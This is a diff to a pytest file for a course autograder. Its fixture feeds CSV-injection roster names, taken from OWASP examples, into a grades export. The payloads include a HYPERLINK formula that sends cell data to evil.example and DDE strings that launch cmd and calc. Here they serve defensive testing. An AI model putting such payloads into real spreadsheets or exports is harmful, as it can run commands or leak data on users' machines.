@@ -26,14 +26,13 @@ import pytest
 
 from autograder.course import Course
 from autograder.grading.records.lms import STUDENT_ID_RULE
+from conftest import PNG
 from test_robustness import (ASSIGNMENT, MAX_SCORE, NOTEBOOK, Notebooks, _course, autograded, autograder, code_cell,
                              grades_csv, write_submissions)
 
 pytestmark = pytest.mark.slow
 
 MARKER = "### BEGIN HIDDEN TESTS"
-# A real 1x1 PNG: what a phone photo of a handwritten derivation becomes when pasted into Jupyter.
-PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
 # Roster names a spreadsheet would run (OWASP's examples of CSV injection), on valid ids.
 HOSTILE_NAMES = {"right": ("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
                            "@SUM(1+1)*cmd|' /C calc'!A0", "=2+2"),
